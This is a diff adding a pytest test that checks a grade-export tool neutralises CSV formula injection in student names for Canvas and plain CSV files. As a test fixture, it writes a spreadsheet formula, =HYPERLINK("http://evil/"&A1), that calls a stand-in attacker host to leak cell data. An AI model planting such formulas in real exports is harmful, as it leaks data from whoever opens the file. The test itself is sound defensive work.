@@ -98,3 +98,18 @@ def test_plain_csv_lists_every_part_of_the_mark(graded, tmp_path: Path) -> None:
     by_sub = {r[6]: dict(zip(table[0], r)) for r in table[1:]}
     assert by_sub["aliddell"]["raw"] == "16" and by_sub["aliddell"]["late_penalty"] == "3.2"
     assert by_sub["aliddell"]["final"] == "12.8" and by_sub["stranger"]["ungraded"] == "q6_written"
+
+
+def test_a_students_name_never_reaches_the_import_file_as_a_formula(graded, tmp_path: Path) -> None:
+    """Names are the students' own text in the LMS: a name like a formula is written with an
+    apostrophe in front, while ids and scores (the columns the LMS matches and imports) stay as they are."""
+    text = (DATA / "canvas_gradebook_export.csv").read_text(encoding="utf-8-sig")
+    hostile = tmp_path / "roster.csv"
+    hostile.write_text(text.replace("Doe, Jane", '=HYPERLINK("http://evil/"&A1)'), encoding="utf-8")
+    for target in ("canvas", "csv"):
+        export(target, *graded, assignment="hw01", roster=read_roster(hostile), out=tmp_path / f"{target}.csv")
+        table = rows(tmp_path / f"{target}.csv")
+        names = [c for r in table for c in r if "HYPERLINK" in c]
+        assert names and all(c.startswith("'=") for c in names), (target, names)
+    body = {r[1]: r for r in rows(tmp_path / "canvas.csv")[2:]}
+    assert body["12345"][1:] == ["12345", "S1001", "jdoe", "NN 2026 Lab A", "19"]
